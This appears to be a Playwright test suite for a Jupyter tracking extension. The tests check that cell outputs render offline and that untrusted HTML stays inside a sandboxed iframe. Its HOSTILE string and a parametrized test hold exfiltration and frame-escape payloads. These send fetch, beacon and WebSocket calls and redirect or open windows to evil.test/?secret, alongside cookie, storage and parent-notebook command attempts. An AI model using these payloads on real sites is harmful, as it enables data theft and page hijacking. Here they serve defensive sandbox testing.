"""What a cell displays, seen again in the run's panel: drawn offline, and with no way out for what is hostile."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Locator, Request

from .lab import Notebook
from .panel import PanelView, until

SETUP = """\
%load_ext nbtrack
import nbtrack, numpy as np, pandas as pd, matplotlib.pyplot as plt, plotly.express as px
import plotly.graph_objects as go
from IPython.display import HTML, display
from PIL import Image
%matplotlib inline
"""

SHOW = """\
%%nbtrack --project shown
rng = np.random.default_rng(0)
plt.figure(figsize=(4, 2.5))
plt.plot(np.cumsum(rng.normal(size=200)))
plt.title("from matplotlib")
display(Image.fromarray(rng.integers(0, 255, (40, 60, 3), dtype=np.uint8)))
points = pd.DataFrame({"x": rng.normal(size=80), "y": rng.normal(size=80), "kind": list("ab") * 40})
display(px.scatter(points, x="x", y="y", color="kind", title="from plotly"))
display(points.head(4))
display(HTML("<h3>a report</h3><p>of the <b>cell</b></p>"))
"""

OTHERS = """\
import altair as alt
alt.renderers.enable("mimetype")  # its own output would fetch vega
from bokeh.plotting import figure
from IPython.display import Audio, Markdown
from rdkit import Chem
"""

SHOW_OTHERS = """\
%%nbtrack --project others
points = pd.DataFrame({"x": [1, 2, 3], "y": [3, 1, 2], "kind": list("abc")})
display(alt.Chart(points).mark_circle().encode(x="x", y="y", color="kind"))
plot = figure(width=300, height=200)
plot.line([1, 2, 3], [3, 1, 2])
display(plot)
display(plot)
display(Chem.MolFromSmiles("CCO"))
display(Audio(np.zeros(4000), rate=4000))
display(Markdown("# Findings\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |"))
points
"""

#: why a request did not leave: the frame's own policy
BLOCKED = {"csp", "net::ERR_BLOCKED_BY_CSP"}

#: everything that a logged document may try; each attempt is swallowed, so that all are tried
HOSTILE = """
<p id=p>hostile</p><img src="http://evil.test/pixel.png"><link rel=stylesheet href="http://evil.test/a.css">
<iframe src="http://evil.test/"></iframe><form action="http://evil.test/"><input name=a></form>
<script src="http://evil.test/a.js"></script>
<script>
const tried = [];
const attempt = (name, act) => {
  try { Promise.resolve(act()).then(() => tried.push(name), () => {}); } catch {}
};
attempt("title", () => { parent.document.title = top.document.title = "taken"; });
attempt("body", () => top.document.body.remove());
attempt("top", () => { top.location = "http://evil.test/top"; });
attempt("hash", () => { top.location.hash = "taken"; });
attempt("parent", () => { parent.location.href = "http://evil.test/parent"; });
attempt("cookie", () => { document.cookie = "taken=1"; });
attempt("storage", () => localStorage.setItem("taken", 1));
attempt("fetch", () => fetch("http://evil.test/fetch"));
attempt("server", () => fetch("/api/contents"));
attempt("module", () => import("http://evil.test/module.js"));
attempt("notebook", () => parent.jupyterapp.commands.execute("notebook:run-cell"));
attempt("outer notebook", () => top.jupyterapp.commands.execute("notebook:run-cell"));
attempt("", () => navigator.sendBeacon("http://evil.test/beacon"));
attempt("", () => new WebSocket("ws://evil.test/"));
attempt("", () => new EventSource("http://evil.test/"));
attempt("", () => { new Image().src = "http://evil.test/image"; });
attempt("", () => document.forms[0].submit());
attempt("", () => parent.parent.postMessage({nbtrackFrame: "?", height: 1e9}, "*"));
document.getElementById("p").textContent = "the script ran";
</script>
"""


def shown(nb: Notebook, index: int) -> PanelView:
    panel = PanelView(nb.panel(index))
    until(lambda: panel.step() >= 0)
    return panel


def texts(panel: PanelView, key: str) -> str:
    return logged(panel, key).inner_text()


def logged(panel: PanelView, key: str) -> Locator:
    """The body of a logged document: in the frame in the frame."""
    return (
        panel.card(key).locator("iframe").first.content_frame.locator("iframe").content_frame.locator("body")
    )


def host_theme(nb: Notebook, name: str) -> None:
    nb.page.evaluate("(name) => jupyterapp.commands.execute('apputils:change-theme', {theme: name})", name)
    nb.page.wait_for_function(f"() => document.body.dataset.jpThemeName === '{name}'")


def left(asked: list[Request]) -> list[tuple[str, str | None]]:
    """Requests to other hosts that the page's policy did not stop before they were made."""
    return [
        (request.url, request.failure)
        for request in asked
        if "evil.test" in request.url and request.failure not in BLOCKED
    ]


def plotted(panel: PanelView, key: str) -> Locator:
    return panel.card(key).locator(".js-plotly-plot .main-svg").first


def test_all_that_a_cell_shows_is_in_the_panel(open_notebook):
    nb = open_notebook(SETUP, SHOW)
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    for key in ("cell/figure", "cell/image"):
        panel.seen(key)
        until(lambda key=key: panel.pixel(key))
    card = panel.seen("cell/plotly")
    plotted(panel, "cell/plotly").wait_for(state="visible", timeout=60_000)
    assert card.locator(".scatterlayer .trace").count() == 2
    assert "from plotly" in card.inner_text()
    assert card.locator(".modebar-btn").count() > 0
    assert card.locator('[data-title*="Share"], [data-title*="Cloud"], .modebar-btn--logo').count() == 0
    panel.seen("cell/table")
    until(lambda: "kind" in panel.card("cell/table").inner_text())
    assert panel.card("cell/table").locator("iframe").count() == 0
    panel.seen("cell/html")
    until(lambda: "a report" in texts(panel, "cell/html"))
    sandbox = panel.card("cell/html").locator("iframe").get_attribute("sandbox").split()
    assert "allow-scripts" in sandbox
    assert not {"allow-same-origin", "allow-top-navigation", "allow-forms", "allow-modals"} & set(sandbox)
    assert nb.foreign_requests() == []
    assert nb.errors == []


def test_objects_of_other_libraries_are_drawn_as_what_they_are_without_the_internet(open_notebook):
    nb = open_notebook(SETUP + OTHERS, SHOW_OTHERS)
    asked: list[Request] = []
    nb.context.on("request", lambda request: asked.append(request))  # noqa: PLW0108  (playwright takes no builtin)
    nb.run(0, 300)
    nb.run(1, 300)
    panel = shown(nb, 1)
    panel.seen("cell/altair").locator(".nb-chart canvas").wait_for(timeout=60_000)
    for key, drawn in (("cell/bokeh", "canvas"), ("cell/html", "td")):
        panel.seen(key)
        logged(panel, key).locator(drawn).first.wait_for(timeout=60_000)
    for key in ("cell/molecule", "cell/audio", "cell/table"):
        assert panel.card(key).count() == 1
    assert panel.root.locator('section[aria-label^="cell/"]').count() == 6
    outside = [r for r in asked if "127.0.0.1" not in r.url and r.url.startswith("http")]
    assert [(r.url, r.failure) for r in outside if r.failure not in BLOCKED] == []
    assert nb.errors == []


def test_a_list_of_documents_stands_with_captions_and_scripts_of_each_run(open_notebook):
    nb = open_notebook(
        SETUP,
        """\
run = nbtrack.init(project="documents")
page = "<p id=p>{}</p><script>p.textContent += ' of step ' + {}</script>"
for step in range(2):
    run.log({"list": [nbtrack.Html(page.format(name, step), caption=name) for name in ("첫째", "second")]})
run.finish()
""",
    )
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    card = panel.card("list")
    card.locator("iframe").nth(1).wait_for()
    assert card.locator("figcaption").all_inner_texts() == ["첫째", "second"]
    until(lambda: "첫째 of step 1" in texts(panel, "list"))
    card.locator("iframe").first.evaluate("(frame) => { frame.marked = true; }")
    panel.press("ArrowLeft")
    until(lambda: "첫째 of step 0" in texts(panel, "list"))
    assert card.locator("iframe").first.evaluate("(frame) => frame.marked"), "the frame was made anew"


def test_a_bare_document_lives_below_its_cell_within_its_frame(open_notebook):
    page = """<div style="height: 333px">tall</div><p id=p>dead</p><script>
    let reached = 0;
    for (const reach of [() => parent.document.body, () => top.document.body, () => localStorage, () => document.cookie])
      try { reach(); reached++; } catch {}
    p.textContent = `alive, reached ${reached}`;
    p.onclick = () => { document.querySelector("div").style.height = "520px"; };
    </script>"""
    nb = open_notebook("import nbtrack", f"nbtrack.Html({page!r})")
    nb.run(0)
    nb.run(1)
    outer = nb.output(1).locator("iframe.nbtrack-frame")
    outer.wait_for()
    assert "allow-same-origin" not in outer.get_attribute("sandbox")
    inner = outer.content_frame.locator("iframe").content_frame
    said = inner.locator("#p")
    until(lambda: said.inner_text() == "alive, reached 0")
    fits = lambda low: low < outer.bounding_box()["height"] < low + 100  # noqa: E731
    until(lambda: fits(333))
    said.click()
    until(lambda: fits(520))
    assert not nb.output(1).locator(".nbtrack-words").is_visible(), "what stands for it where no script runs"
    assert nb.errors == []
    assert nb.foreign_requests() == []


def test_histograms_of_a_run_as_map_and_as_ridges(open_notebook):
    nb = open_notebook(
        SETUP,
        """\
run = nbtrack.init(project="weights")
for step in range(12):
    values = np.random.default_rng(step).normal(step / 4, 1, 500)
    values[: step % 3] = np.nan
    run.log({"w": nbtrack.Histogram(values)})
run.finish()
""",
        fresh=True,
    )
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    card = panel.card("w")
    until(lambda: panel.pixel("w"))
    assert len([url for url in nb.requests if "/pack/histogram?v=" in url]) == 1
    assert card.locator(".nb-unbinned").count() == 8
    until(lambda: "2 NaN" in card.inner_text())
    assert card.locator(".nb-quantile").count() == 0
    card.get_by_text("quantiles").click()
    assert card.locator(".nb-heat .nb-quantile").count() == 10
    before = card.locator("canvas").evaluate("(c) => c.toDataURL()")
    card.get_by_text("Linear", exact=True).click()
    until(lambda: card.locator("canvas").evaluate("(c) => c.toDataURL()") != before)
    card.get_by_text("Ridges", exact=True).click()
    ridges = card.locator(".nb-ridges .nb-heat-plot")
    box = ridges.bounding_box()
    ridges.click(position={"x": box["width"] / 2, "y": box["height"] * 0.3})
    until(lambda: panel.step() < 6)
    assert card.locator(".nb-ridges").count() == 1, "the look is kept while the step changes"
    one = card.locator(".nb-one-step .nb-heat-plot")
    size = one.bounding_box()
    one.hover(position={"x": size["width"] * 0.4, "y": 50})
    assert "[" in card.locator(".nb-hover").inner_text()
    assert "median" in card.locator(".nb-hover").inner_text()


def test_plotly_js_comes_once_a_page_and_takes_the_themes_colors(open_notebook):
    nb = open_notebook(SETUP, SHOW, "nbtrack.show(nbtrack.run)", fresh=True)
    for cell in range(3):
        nb.run(cell)
    panels = [shown(nb, cell) for cell in (1, 2)]
    for panel in panels:
        panel.card("cell/plotly").scroll_into_view_if_needed()
        plotted(panel, "cell/plotly").wait_for(state="visible", timeout=60_000)
    fetched = [url for url in nb.requests if "/pack/plotly?v=" in url]
    assert len(fetched) == 1

    def ground() -> str:
        return plotted(panels[1], "cell/plotly").evaluate("(svg) => getComputedStyle(svg).backgroundColor")

    assert ground() == "rgb(255, 255, 255)"
    host_theme(nb, "JupyterLab Dark")
    until(lambda: ground() == "rgb(17, 17, 17)")
    host_theme(nb, "JupyterLab Light")


def test_a_zoom_into_a_figure_stays_from_step_to_step(open_notebook):
    nb = open_notebook(
        SETUP,
        """\
run = nbtrack.init(project="zoom")
for step in range(3):
    run.log({"chart": go.Figure(go.Scatter(y=[step, 1, 2, 3], name=f"at {step}"), layout={"title": f"step {step}"})})
run.finish()
""",
    )
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    plotted(panel, "chart").wait_for(state="visible", timeout=60_000)
    card = panel.card("chart")
    until(lambda: "step 2" in card.inner_text())
    figure = card.locator(".js-plotly-plot")
    figure.evaluate("(el) => { el.marked = true; }")
    drag = card.locator(".nsewdrag").first
    box = drag.bounding_box()
    nb.page.mouse.move(box["x"] + 60, box["y"] + 40)
    nb.page.mouse.down()
    nb.page.mouse.move(box["x"] + 220, box["y"] + 120, steps=5)
    nb.page.mouse.up()

    def span() -> list[float]:
        return figure.evaluate("(el) => el._fullLayout.xaxis.range.map((x) => Math.round(x * 1000) / 1000)")

    until(lambda: figure.evaluate("(el) => el._fullLayout.xaxis.autorange") is False)
    zoomed = span()
    panel.press("ArrowLeft")
    until(lambda: "step 1" in card.inner_text())
    assert span() == zoomed
    assert figure.evaluate("(el) => el.marked"), "the figure was made anew"


def test_maps_are_drawn_without_the_internet(open_notebook):
    nb = open_notebook(
        SETUP,
        """\
run = nbtrack.init(project="maps")
run.log({
    "globe": go.Figure(go.Scattergeo(lat=[48, 52], lon=[2, 13], mode="markers+lines")),
    "image": go.Figure(layout={"images": [{"source": "http://evil.test/a.png", "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]}),
    "text": go.Figure(layout={"title": "<span style='cursor:url(http://evil.test/a),auto'>hover</span> <a href='javascript:document.title=1'>click</a>"}),
})
run.finish()
""",
    )
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    for key in ("globe", "image", "text"):
        panel.card(key).scroll_into_view_if_needed()
        plotted(panel, key).wait_for(state="visible", timeout=60_000)
    until(lambda: panel.card("globe").locator(".scattergeo path, .scattergeo .point").count() > 0)
    for key in ("globe", "image"):
        assert "Left out" in panel.card(key).inner_text()
    panel.card("text").get_by_text("hover").hover()
    links = panel.card("text").locator("a")
    assert "javascript" not in json.dumps(links.evaluate_all("(all) => all.map((a) => a.outerHTML)"))
    assert nb.foreign_requests() == []


def test_hostile_html_stays_in_its_frame(open_notebook):
    nb = open_notebook(
        SETUP,
        f"%%nbtrack --project hostile\nfrom nbtrack import Html\nnbtrack.log({{'page': Html({HOSTILE!r})}})",
    )
    nb.run(0)
    before = (nb.page.url, nb.page.title())
    cookies = nb.context.cookies()
    asked: list[Request] = []
    nb.context.on("request", lambda request: asked.append(request))  # noqa: PLW0108  (playwright takes no builtin)
    nb.run(1)
    panel = shown(nb, 1)
    panel.card("page").scroll_into_view_if_needed()
    until(lambda: "the script ran" in texts(panel, "page"))
    nb.page.wait_for_timeout(1500)
    frame = panel.card("page").locator("iframe").first
    done = logged(panel, "page").evaluate("() => tried")
    assert set(done) == {""}  # the rest failed; these fail without saying so
    assert (nb.page.url, nb.page.title()) == before
    assert nb.context.cookies() == cookies
    assert nb.page.evaluate("() => localStorage.getItem('taken')") is None
    assert frame.bounding_box()["height"] <= 645
    assert len(nb.context.pages) == 1
    assert left(asked) == []


@pytest.mark.parametrize(
    "leave",
    [
        '<meta http-equiv=refresh content="0; url=http://evil.test/?secret">',
        "<script>location = 'http://evil.test/?secret'</script>",
        "<script>location.replace('http://evil.test/?secret')</script>",
        "<a href='http://evil.test/?secret' target=_self>x</a><script>document.links[0].click()</script>",
        "<script>window.open('http://evil.test/?secret')</script>",
        "<base href='http://evil.test/'><img src=pixel>",
    ],
    ids=["refresh", "location", "replace", "link", "popup", "base"],
)
def test_a_document_carries_nothing_away_by_leaving(open_notebook, leave):
    nb = open_notebook(
        SETUP,
        f"run = nbtrack.init(project='leave')\nrun.log({{'page': nbtrack.Html({leave!r})}})\nrun.finish()",
    )
    asked: list[Request] = []
    nb.context.on("request", lambda request: asked.append(request))  # noqa: PLW0108  (playwright takes no builtin)
    nb.run(0)
    nb.run(1)
    panel = shown(nb, 1)
    panel.card("page").scroll_into_view_if_needed()
    panel.card("page").locator("iframe").wait_for(state="visible")
    nb.page.wait_for_timeout(1500)
    assert left(asked) == []
    assert len(nb.context.pages) == 1


@pytest.mark.parametrize("name", ["page"])
def test_a_saved_page_draws_the_figures_offline(open_notebook, lab, browser, name):
    nb = open_notebook(SETUP, SHOW, f"nbtrack.show(nbtrack.run).save_html('{name}.html'); None")
    for cell in range(3):
        nb.run(cell)
    page = browser.new_context(offline=True, viewport={"width": 1300, "height": 1000}).new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto((lab.root / f"{name}.html").as_uri())
    panel = PanelView(page.locator(".nbtrack").first)
    plotted(panel, "cell/plotly").wait_for(state="visible", timeout=60_000)
    panel.seen("cell/html")
    until(lambda: "a report" in texts(panel, "cell/html"))
    assert errors == []
    page.context.close()
